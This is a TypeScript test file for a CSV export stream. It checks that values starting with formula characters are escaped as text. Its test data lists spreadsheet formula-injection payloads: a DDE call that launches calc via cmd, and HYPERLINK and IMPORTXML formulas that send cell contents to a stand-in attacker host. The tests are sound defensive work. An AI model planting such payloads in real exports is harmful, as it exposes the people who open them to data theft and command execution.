import { Readable } from 'node:stream';
import { text as textOf } from 'node:stream/consumers';
import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvStream, type CsvRow } from '../../../src/platform/csv.ts';

const read = async (columns: string[], rows: CsvRow[]): Promise<string[][]> => Papa.parse<string[]>((await textOf(csvStream(columns, Readable.from(rows)))).replace('\ufeff', ''), { skipEmptyLines: true }).data;

/** What spreadsheets take for the beginning of a formula, in the widths they take it in. */
const STARTS = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
const TAILS = ['1+1', 'cmd|\' /C calc\'!A0', 'HYPERLINK("http://evil.example?x="&A1,"click")', 'IMPORTXML("http://evil.example","//a")', 'DDE("cmd","/C calc","x")'];

describe('a CSV file for spreadsheets', () => {
  it.each(STARTS.flatMap((start) => TAILS.map((tail) => start + tail)))('holds %j as text', async (payload) => {
    const [head, [cell = '', beside = ''] = []] = await read(['a', 'b'], [{ a: payload, b: `x${payload}` }]);
    expect(head).toEqual(['a', 'b']);
    expect(cell).toBe(`'${payload}`);
    expect(beside).toBe(`x${payload}`);
  });

  it('keeps numbers numbers, also below zero', async () => {
    expect(await read(['a', 'b', 'c'], [{ a: -5, b: 0.1, c: true }])).toEqual([['a', 'b', 'c'], ['-5', '0.1', 'true']]);
  });

  it('gives every other text back as it was, however it is quoted', async () => {
    await fc.assert(fc.asyncProperty(fc.array(fc.string({ unit: 'grapheme', minLength: 1 }), { minLength: 1, maxLength: 5 }), async (texts) => {
      const [, ...rows] = await read(['a', 'b'], texts.map((value) => ({ a: 'x', b: `:${value}` })));
      expect(rows.map(([, value]) => value)).toEqual(texts.map((value) => `:${value}`));
    }), { numRuns: 50 });
  });
});
